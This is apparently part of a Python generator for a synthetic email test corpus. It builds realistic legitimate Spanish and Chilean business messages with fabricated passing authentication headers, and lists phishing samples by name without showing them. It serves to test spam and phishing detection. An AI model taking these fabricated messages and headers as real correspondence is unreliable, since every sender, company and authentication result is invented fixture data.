<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=2&amp;tok={b64url(slug + 'tok', 40)}&amp;ctz=America%2FSantiago&amp;hl=es" style="border:1px solid #dadce0;border-radius:16px;padding:6px 16px;color:#3c4043;text-decoration:none">No</a>
<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=3&amp;tok={b64url(slug + 'tok', 40)}&amp;ctz=America%2FSantiago&amp;hl=es" style="border:1px solid #dadce0;border-radius:16px;padding:6px 16px;color:#3c4043;text-decoration:none">Quizás</a></td></tr>
<tr><td style="font-size:12px;color:#70757a;border-top:1px solid #dadce0;padding-top:12px">Invitación de <a href="https://calendar.google.com/calendar/" style="color:#1a73e8">Google Calendar</a><br>Recibes este correo electrónico porque asistirás a este evento. Para dejar de recibir novedades del evento, rechaza la invitación.</td></tr>
</table></div>
"""
    cal = Leaf("text/calendar", ics.encode(), "base64", '; charset="UTF-8"; method=REQUEST')
    body = Multi("mixed", gboundary(slug + "mix"), [
        Multi("alternative", gboundary(slug + "alt"), [text(plain, "plain", "quoted-printable", "UTF-8"),
                                                     text(html, "html", "quoted-printable", "UTF-8"), cal]),
        Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'),
    ])
    add("clean", "legit", slug,
        "Google Calendar invitation from the HR colleague in the same Workspace domain (lircay.cl DKIM) for a Ley Karin training with a Meet link.",
        hdr(top, orig), body)


def cl_legit_sii_resultado_dte() -> None:
    slug = "cl-sii-resultado-revision-envio-dte"
    t = T(2025, 6, 9, 11, 52, 46, -4)
    rcpt = "fmunoz@lircay.cl"
    dom = "sii.cl"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="200.10.252.38", host="mail3.sii.cl", mailfrom=f"siidte@{dom}", spf="pass",
                 dkims=[("pass", f"@{dom}", "sii")], dmarc=f"pass (p=REJECT sp=REJECT dis=NONE) header.from={dom}",
                 tls="version=TLS1_2 cipher=ECDHE-RSA-AES256-GCM-SHA384 bits=256/256")
    orig = [dkim_sig(dom, "sii", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"Date: {rfc(t)}",
            f"From: siidte@{dom}",
            f"To: {rcpt}",
            f"Message-ID: <{num(slug, 10**7, 10**8 - 1)}.{num(slug + 'a', 1000, 9999)}.{epoch(t)}{num(slug + 'b', 100, 999)}.JavaMail.dte@palena>",
            "Subject: Resultado de Revision Envio 0215834417 - 76482915-K",
            "MIME-Version: 1.0"]
    plain = """Resultado de Revision Envio de Documentos Tributarios Electronicos

Rut de Empresa Emisora : 76482915-K
Rut que Realizo el Envio : 13882417-3
Identificador de Envio : 0215834417
Fecha de Recepcion : 09/06/2025 11:49:02
Estado del Envio : EPR - Envio Procesado

Estadisticas del Envio
Tipo DTE   Informados   Rechazos   Reparos   Aceptados
   33          148          0          2        148
   61            3          0          0          3

Detalle de Reparos
Tipo DTE 33 Folio 284417: Rut del Receptor no corresponde a contribuyente con inicio de actividades (Reparo).
Tipo DTE 33 Folio 284452: Fecha de emision fuera de plazo (Reparo).

Este correo ha sido generado automaticamente por el Servicio de Impuestos Internos. No responda este mensaje.
"""
    body = text(plain, "plain", "7bit", "ISO-8859-1")
    add("bulk", "legit", slug,
        "Genuine SII 'Resultado de Revision Envio' DTE processing report from siidte@sii.cl (p=REJECT pass), plain text with no links.",
        hdr(top, orig), body)


def es_legit_sharepoint_colega() -> None:
    slug = "es-sharepoint-mediciones-colega"
    t = T(2025, 2, 19, 12, 31, 40, 1)
    top, tail = rx_m365(ES_M365, slug, t=t, ip="40.107.22.85", host="mail-am6eur05on2085.outbound.protection.outlook.com",
                        mailfrom="<no-reply@sharepointonline.com>", from_dom="sharepointonline.com", spf="pass", dkim="pass",
                        dmarc="pass", compauth="pass", reason="100", ctry="NL", lang="es")
    src = "DB9PR02MB7321.eurprd02.prod.outlook.com"
    hops = [f"Received: from {src} (2603:10a6:10:2a0::11) by\n AMS0EPF000001B4.mail.protection.outlook.com with Microsoft SMTP Server "
            f"(version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_ver(t)}; {rfc(utc(t))}"]
    hops += ms_arc_out(slug, t, "sharepointonline.com", "", "sharepointonline.com")
    orig = [dkim_sig("sharepointonline.com", "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            "From: Sergio Pastor <no-reply@sharepointonline.com>",
            "To: <javier.olmedo@incaspro.es>",
            "Subject: " + ew('Sergio Pastor ha compartido "Mediciones Nave Getafe rev03" contigo', mode="B"),
            f"Date: {rfc(utc(t))}",
            f"Message-ID: <{guid(slug)}@{src.upper()}>",
            "Reply-To: sergio.pastor@incaspro.es",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "x-ms-exchange-messagesentrepresentingtype: 1",
            f"x-ms-exchange-organization-sharepoint-correlation: {guid(slug + 'spc')}",
            "MIME-Version: 1.0"]
    link = f"https://incaspro.sharepoint.com/:x:/s/Proyectos2025/E{b64url(slug + 'sp', 45)}?e={alnum(slug + 'e', 6)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:'Segoe UI',Arial,sans-serif;max-width:560px;margin:0 auto;padding:24px;color:#242424">
<table role="presentation" style="width:100%"><tr><td style="width:40px"><div style="width:36px;height:36px;border-radius:18px;background:#0f6cbd;color:#fff;text-align:center;line-height:36px;font-size:14px">SP</div></td>
<td style="font-size:20px;font-weight:600;padding-left:10px">Sergio Pastor ha compartido un archivo contigo</td></tr></table>
<div style="margin:20px 0;padding:12px 16px;border-left:3px solid #0f6cbd;background:#faf9f8;font-size:14px">Javier, te paso la revisión 3 de mediciones con los cambios de la cimentación. Revisa la pestaña de movimiento de tierras antes del jueves.</div>
<table role="presentation" style="width:100%;border:1px solid #e1dfdd;border-radius:4px"><tr>
<td style="padding:14px;width:32px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/xlsx.png" width="32" height="32" alt=""></td>
<td style="padding:14px;font-size:14px;font-weight:600">Mediciones Nave Getafe rev03</td></tr></table>
<p style="margin:24px 0"><a href="{link}" style="background:#0f6cbd;color:#fff;text-decoration:none;padding:9px 20px;border-radius:4px;font-size:14px;font-weight:600">Abrir</a></p>
<p style="font-size:12px;color:#616161">Este vínculo solo funcionará para los destinatarios directos de este mensaje.</p>
<p style="font-size:12px;color:#616161;margin-top:30px">Microsoft SharePoint<br><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Declaración de privacidad</a></p>
</div></body></html>
"""
    plain = (f"Sergio Pastor ha compartido un archivo contigo\n\nJavier, te paso la revisión 3 de mediciones con los cambios de la cimentación. "
             f"Revisa la pestaña de movimiento de tierras antes del jueves.\n\nMediciones Nave Getafe rev03\n{link}\n\nMicrosoft SharePoint\n")
    body = alt(slug, plain, html, "outlook")
    add("clean", "legit", slug,
        "Genuine SharePoint sharing notification from a colleague for a workbook on the company's own incaspro.sharepoint.com site.",
        hdr(top, hops, orig, tail), body)


def es_legit_cambio_cuenta_verificado() -> None:
    slug = "es-proveedor-cambio-cuenta-verificar-telefono"
    t = T(2024, 1, 23, 10, 14, 27, 1)
    dom = "hormigonesdelcentro.es"
    src = "PR3PR04MB7185.eurprd04.prod.outlook.com"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="40.107.21.120", host="mail-ve1eur03on2120.outbound.protection.outlook.com",
                        mailfrom=f"<administracion@{dom}>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="NL", lang="es")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10a6:102:1e8::9",
                            "PR0P264CA0201.FRAP264.PROD.OUTLOOK.COM", "2603:10a6:100:1::21")
    hops += ms_arc_out(slug, t, dom, "", dom)
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Administración Hormigones del Centro', f'administracion@{dom}', 'iso-8859-1', 'Q')}",
            "To: administracion@incaspro.es",
            "CC: lucia.herrero@incaspro.es",
            f"Subject: {ew('Comunicación de cambio de entidad bancaria - Hormigones del Centro, S.A.', 'iso-8859-1')}",
            "Thread-Topic: Comunicacion de cambio de entidad bancaria - Hormigones del Centro, S.A.",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: es-ES, en-US",
            "Content-Language: es-ES",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    plain = """Estimados clientes:

Como continuación de la carta firmada que les hemos remitido por burofax con fecha 19 de enero, les informamos de que Hormigones del Centro, S.A. cambiará su entidad bancaria de cobros a partir del 1 de marzo de 2024. Adjuntamos copia de la carta y el certificado de titularidad emitido por la nueva entidad.

MUY IMPORTANTE: por su seguridad, no modifiquen los datos bancarios de su ficha de proveedor basándose únicamente en este correo. Antes de realizar cualquier cambio, confirmen la comunicación llamando a nuestro departamento de administración al teléfono que figura en sus contratos y en su ficha de proveedor (91 691 30 40), preguntando por Dª. Carmen Ortega o D. Luis Gallego. Si en algún momento reciben otro correo solicitando un cambio distinto, con urgencia o desde una dirección que no sea @hormigonesdelcentro.es, les rogamos que no lo atiendan y nos avisen.

Hasta el 1 de marzo, los pagos deben seguir realizándose en la cuenta habitual.

Gracias por su colaboración.

Un saludo,

Carmen Ortega
Jefa de Administración
Hormigones del Centro, S.A.
Ctra. de Toledo km 12,5 · 28906 Getafe (Madrid)
Tel. 91 691 30 40
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><style>p{margin-top:0;margin-bottom:0}</style></head>'
            '<body dir="ltr"><div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:11pt;color:rgb(0,0,0)">'
            + plain.replace("MUY IMPORTANTE:", "<b>MUY IMPORTANTE:</b>").replace("\n", "<br>\n") + "</div></body></html>\n")
    carta = pdf_doc(["HORMIGONES DEL CENTRO, S.A.", "Ctra. de Toledo km 12,5 - 28906 Getafe (Madrid)", "",
                     "Getafe, 19 de enero de 2024", "", "Asunto: cambio de entidad bancaria para cobros", "",
                     "Muy Sres. nuestros:", "A partir del 1 de marzo de 2024 los pagos de nuestras facturas deberan",
                     "realizarse en la cuenta abierta a nombre de Hormigones del Centro, S.A. en Ibercaja,",
                     "cuyo IBAN figura en el certificado de titularidad adjunto.", "",
                     "Les rogamos confirmen telefonicamente este cambio con nuestro departamento",
                     "de administracion (91 691 30 40) antes de actualizar sus registros.", "",
                     "Atentamente,", "Fdo.: Fernando Ruiz Calvo - Director Financiero"],
                    "Carta cambio entidad bancaria", "Microsoft Word para Microsoft 365", "20240119093011+01'00'",
                    author="Carmen Ortega")
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain, "plain", "quoted-printable", "iso-8859-1"),
                                                         text(html, "html", "quoted-printable", "iso-8859-1")]),
        attachment("application/pdf", "Carta_cambio_entidad_bancaria_HdC.pdf", carta),
    ])
    add("clean", "legit", slug,
        "Real supplier's bank-change notice from its own domain (M365, all auth pass) that follows a burofax letter, keeps paying the old account until the effective date and insists on phone verification at the known number.",
        hdr(top, hops, orig, tail), body)


def es_legit_dehu_aviso() -> None:
    slug = "es-dehu-aviso-notificacion-aeat"
    t = T(2025, 10, 7, 8, 3, 55, 2)
    dom = "correo.gob.es"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="185.73.172.41", host="smtp-sal2.correo.gob.es", mailfrom=f"<no-reply.dehu@{dom}>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="ES", lang="es")
    orig = [dkim_sig(dom, "sgad", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"Date: {rfc(t)}",
            f"From: {addr('Dirección Electrónica Habilitada única (DEHú)', f'no-reply.dehu@{dom}', 'UTF-8', 'Q')}",
            "To: administracion@incaspro.es",
            f"Message-ID: <{num(slug, 10**8, 10**9 - 1)}.{num(slug + 'a', 10**5, 10**6 - 1)}.{epoch(t)}{num(slug + 'b', 100, 999)}@dehu-prod-notif03>",
            f"Subject: {ew('Aviso de puesta a disposición de notificación en DEHú')}",
            "MIME-Version: 1.0"]
    plain = """Aviso de puesta a disposición de notificación

Le informamos de que tiene a su disposición una nueva notificación en la Dirección Electrónica Habilitada única (DEHú).

Titular: INGENIERIA CASTELLANA DE PROYECTOS SL (B8******2)
Organismo emisor: Agencia Estatal de Administración Tributaria
Concepto: Requerimiento de información - Modelo 347
Fecha de puesta a disposición: 07/10/2025

Puede acceder al contenido de la notificación en https://dehu.redsara.es identificándose con certificado electrónico o Cl@ve, o en la sede electrónica del organismo emisor.

Dispone de diez días naturales desde la puesta a disposición para acceder a la notificación. Transcurrido dicho plazo sin que se haya accedido a su contenido, se entenderá rechazada (artículo 43 de la Ley 39/2015).

Este aviso tiene carácter meramente informativo; su ausencia no impide que la notificación sea considerada plenamente válida. No responda a este correo electrónico.
"""
    body = text(plain, "plain", "quoted-printable", "UTF-8")
    add("bulk", "legit", slug,
        "Genuine DEHú availability notice (correo.gob.es, all auth pass) about an AEAT requirement: plain text, points only to dehu.redsara.es, nothing to download.",
        hdr(top, orig, tail), body)


def es_legit_internal_mediciones() -> None:
    slug = "es-interno-presupuesto-excel"
    t = T(2024, 5, 28, 17, 42, 11, 2)
    src = "DU0PR02MB8812.eurprd02.prod.outlook.com"
    top, tail = rx_m365_internal(ES_M365, slug, t=t, sender_mbx=src, sender_mbx6="2603:10a6:10:3b4::7",
                                 sender="<lucia.herrero@incaspro.es>")
    orig = [f"From: {addr('Lucía Herrero', 'lucia.herrero@incaspro.es', 'iso-8859-1', 'Q')}",
            "To: Sergio Pastor <sergio.pastor@incaspro.es>",
            f"CC: {addr('Álvaro Sanz de la Fuente', 'asanz@incaspro.es', 'iso-8859-1', 'Q')}",
            f"Subject: {ew('Comparativo ofertas estructura metálica - Nave Alovera', 'iso-8859-1')}",
            "Thread-Topic: Comparativo ofertas estructura metalica - Nave Alovera",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: es-ES, en-US",
            "Content-Language: es-ES",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    plain = """Hola Sergio:

Te adjunto el comparativo de las tres ofertas de estructura metálica para la nave de Alovera. Metálicas Henares sale un 4 % más cara pero incluye el galvanizado y el plazo de montaje es de 6 semanas frente a 9 de las otras dos.

Si te parece, lo vemos mañana con Álvaro después de la reunión de seguimiento y les pedimos que ajusten el precio de los pórticos.

Un saludo,

Lucía Herrero
Compras · Ingeniería Castellana de Proyectos, S.L.
C/ Orense 34, 28020 Madrid · Tel. 91 555 48 20
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><style>p{margin-top:0;margin-bottom:0}</style></head>'
            '<body dir="ltr"><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">'
            + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    rows = [["Partida", "Metálicas Henares", "Estructuras Jarama", "Acero Castilla", "Ud."],
            ["Pórticos principales IPE-450", 148200.0, 139750.0, 142300.0, "€"],
            ["Correas y arriostramientos", 38600.0, 36900.0, 41150.0, "€"],
            ["Galvanizado en caliente", "incluido", 18400.0, 17900.0, "€"],
            ["Montaje", 41800.0, 39500.0, 38700.0, "€"],
            ["Plazo de montaje", 6, 9, 9, "semanas"],
            ["TOTAL", 228600.0, 234550.0, 240050.0, "€"]]
    sheet = xlsx("Comparativo", rows, "Lucia Herrero", "2024-05-28T15:30:00Z")
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain, "plain", "quoted-printable", "iso-8859-1"),
                                                         text(html, "html", "quoted-printable", "iso-8859-1")]),
        attachment(XLSX_CT, "Comparativo_estructura_metalica_Alovera.xlsx", sheet),
    ])
    add("clean", "legit", slug,
        "Internal Exchange Online mail from purchasing to the project manager with a bid-comparison spreadsheet attached.",
        hdr(top, orig, tail), body)


def es_legit_cliente_aceptacion_oferta() -> None:
    slug = "es-cliente-aceptacion-oferta-pdf"
    t = T(2023, 11, 14, 13, 26, 50, 1)
    dom = "logisticahenares.es"
    top, tail = rx_m365(ES_M365, slug, t=t, ip="209.85.208.47", host="mail-ed1-f47.google.com", mailfrom=f"<compras@{dom}>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="US", lang="es")
    hops = [f"Received: by mail-ed1-f47.google.com with SMTP id 4fb4d7f45d1cf-54366784377so8418214a12.3\n"
            f"        for <sergio.pastor@incaspro.es>; {pacific(t)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(slug + 'gs', 86)}",
            f"X-Received: by 2002:a05:6402:{hx(slug + 'a', 4)}:b0:543:{hx(slug + 'b', 4)}:{hx(slug + 'c', 4)} with SMTP id "
            f"4fb4d7f45d1cf-{hx(slug + 'd', 11)}.{num(slug, 10, 99)}.{epoch(t)}{num(slug + 'e', 100, 999)};\n        {pacific(t)}"]
    prev = f"<DU0PR02MB9374{HX(slug + 'prev', 24)}@DU0PR02MB9374.eurprd02.prod.outlook.com>"
    orig = [dkim_sig(dom, "google", slug, t,
                     "cc:to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=IC),
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'st', 58)}",
            "MIME-Version: 1.0",
            f"References: {prev}",
            f"In-Reply-To: {prev}",
            f"From: {addr('Raúl Domínguez - Logística Henares', f'compras@{dom}', 'UTF-8', 'Q')}",
            f"Date: {rfc(t)}",
            f"Message-ID: {gmail_mid(slug)}",
            f"Subject: {ew('Re: Oferta técnico-económica - Proyecto ampliación nave Alovera (OF-23-118)')}",
            "To: Sergio Pastor <sergio.pastor@incaspro.es>",
            f"Cc: {addr('Álvaro Sanz de la Fuente', 'asanz@incaspro.es', 'UTF-8', 'Q')}"]
    plain = """Buenas tardes, Sergio:

Tras revisarla con dirección, os confirmamos la aceptación de la oferta OF-23-118 para la redacción del proyecto básico y de ejecución de la ampliación de la nave de Alovera, con las condiciones de la revisión 2 (honorarios 48.500 € + IVA, plazo 10 semanas).

Os adjunto la oferta firmada. Nuestro departamento de administración os enviará el pedido con la referencia que debéis indicar en las facturas.

¿Podemos fijar la reunión de arranque la semana que viene? Nos vendría bien el martes 21 por la mañana en nuestras oficinas de Alovera.

Un saludo,

Raúl Domínguez
Director de Operaciones
Logística Henares, S.A.
Tel. 949 27 40 11

El lun, 13 nov 2023 a las 18:02, Sergio Pastor (<sergio.pastor@incaspro.es>) escribió:
> Raúl, buenas tardes:
>
> Te adjunto la revisión 2 de la oferta con el ajuste de alcance que comentamos (sin legalización de instalaciones de PCI).
>
> Quedamos a vuestra disposición.
> Sergio Pastor
> Jefe de Proyecto - INCASPRO
"""
    html_main, quoted = plain.split("\n\nEl lun,", 1)
    html = (f'<div dir="ltr">{html_main.replace(chr(10), "<br>")}</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            'El lun, 13 nov 2023 a las 18:02, Sergio Pastor (&lt;<a href="mailto:sergio.pastor@incaspro.es">sergio.pastor@incaspro.es</a>&gt;) escribió:<br></div>'
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
            'Raúl, buenas tardes:<br><br>Te adjunto la revisión 2 de la oferta con el ajuste de alcance que comentamos (sin legalización de instalaciones de PCI).<br><br>'
            'Quedamos a vuestra disposición.<br>Sergio Pastor<br>Jefe de Proyecto - INCASPRO</blockquote></div>\n')
    oferta = pdf_doc(["INGENIERIA CASTELLANA DE PROYECTOS, S.L.", "OFERTA TECNICO-ECONOMICA OF-23-118 rev.2", "",
                      "Cliente: LOGISTICA HENARES, S.A.", "Objeto: Proyecto basico y de ejecucion - ampliacion nave Alovera (Guadalajara)",
                      "", "Honorarios: 48.500,00 EUR + IVA", "Plazo: 10 semanas desde la reunion de arranque", "",
                      "Forma de pago: 30% a la firma, 40% entrega proyecto basico, 30% entrega proyecto de ejecucion", "",
                      "ACEPTADO: Logistica Henares, S.A.", "Fdo.: Raul Dominguez   Fecha: 14/11/2023"],
                     "OF-23-118 rev2 firmada", "Adobe Acrobat Sign", "20231114131512+01'00'")
    body = Multi("mixed", gboundary(slug + "mix"), [
        Multi("alternative", gboundary(slug + "alt"), [text(plain, "plain", "quoted-printable", "UTF-8"),
                                                     text(html, "html", "quoted-printable", "UTF-8")]),
        Leaf("application/pdf", oferta, "base64", '; name="OF-23-118_rev2_firmada.pdf"', 'attachment; filename="OF-23-118_rev2_firmada.pdf"',
             [f"Content-ID: <f_{alnum(slug + 'cid', 9).lower()}0>", f"X-Attachment-Id: f_{alnum(slug + 'cid', 9).lower()}0"]),
    ])
    add("clean", "legit", slug,
        "Client's reply from its Google Workspace domain (all auth pass) accepting the engineering offer, quoting the thread and attaching the signed PDF.",
        hdr(top, hops, orig, tail), body)


# =========================================================================
#  main
# =========================================================================

def _builders() -> list:
    return [f for n, f in list(globals().items())
            if callable(f) and n[:3] in ("br_", "mx_", "co_", "cl_", "es_") and getattr(f, "__module__", "") == __name__]


def _check(raw: bytes, name: str) -> list[str]:
    problems = []
    msg = email.message_from_bytes(raw, policy=policy.default)
    for key in ("From", "To", "Subject", "Date", "Message-ID"):
        if key not in msg and not (key == "Message-ID" and "Message-Id" in msg):
            problems.append(f"missing {key}")
    try:
        str(msg["Subject"])
        str(msg["From"])
    except Exception as exc:  # noqa: BLE001
        problems.append(f"header decode: {exc}")
    problems += [repr(d) for d in msg.defects]
    for part in msg.walk():
        problems += [repr(d) for d in part.defects]
        if part.is_multipart():
            continue
        try:
            content = part.get_content()
        except Exception as exc:  # noqa: BLE001
            problems.append(f"part {part.get_content_type()}: {exc}")
            continue
        if part.get_content_maintype() == "text" and not isinstance(content, str):
            problems.append("text part did not decode to str")
    return problems



# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# legitimate notices between clean and bulk, and attacks that only link to a download (no dropper attached)
# under phishing, the folder for lures; malware/ keeps the messages that carry one.
REFILED = {
    "b16-legit-br-receita-dte-caixa-postal-aviso": "clean",
    "b16-legit-cl-sii-resultado-revision-envio-dte": "clean",
    "b16-legit-co-bancolombia-alerta-transferencia": "clean",
    "b16-legit-co-dian-notificacion-electronica-real": "clean",
    "b16-legit-mx-bbva-netcash-spei-enviado": "clean",
    "b16-legit-mx-sat-buzon-tributario-aviso-real": "clean",
    "b16-legit-cl-calendar-capacitacion-ley-karin": "bulk",
    "b16-legit-es-sharepoint-mediciones-colega": "bulk",
    "b16-phish-br-intimacao-tjsp-zip-gcs": "phishing",
    "b16-phish-br-nfe-link-zip-grandoreiro": "phishing",
    "b16-phish-cl-arca-intimacion-dfe-zip": "phishing",
    "b16-phish-es-aeat-notificacion-zip-grandoreiro": "phishing",
    "b16-phish-es-factura-pendiente-html-zip": "phishing",
    "b16-phish-mx-cfdi-factura-link-zip-mekotio": "phishing",
    "b16-phish-mx-sat-buzon-tributario-pdf-zip": "phishing",
}


def main() -> None:
    for builder in _builders():
        builder()
    names = [s[1] for s in SAMPLES]
    assert len(names) == len(set(names)), "duplicate sample names"
    for old in OUT.glob("*/b16-*.eml"):
        old.unlink()
    lines = []
    bad = 0
    for category, name, desc, raw in SAMPLES:
        category = REFILED.get(name, category)
        path = OUT / category / f"{name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{category}/{name}.eml | {category} | {desc}")
        problems = _check(raw, name)
        if problems:
            bad += 1
            print(f"PROBLEM {name}: {problems}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for category, *_ in SAMPLES:
        counts[category] = counts.get(category, 0) + 1
    attacks = sum(1 for _, n, _, _ in SAMPLES if n.startswith("b16-phish-"))
    legit = len(SAMPLES) - attacks
    print(f"blind16: {len(SAMPLES)} messages written ({attacks} attacks, {legit} legitimate)")
    for category in sorted(counts):
        print(f"  {category:9s} {counts[category]}")
    print(f"  parse problems: {bad}")


if __name__ == "__main__":
    main()
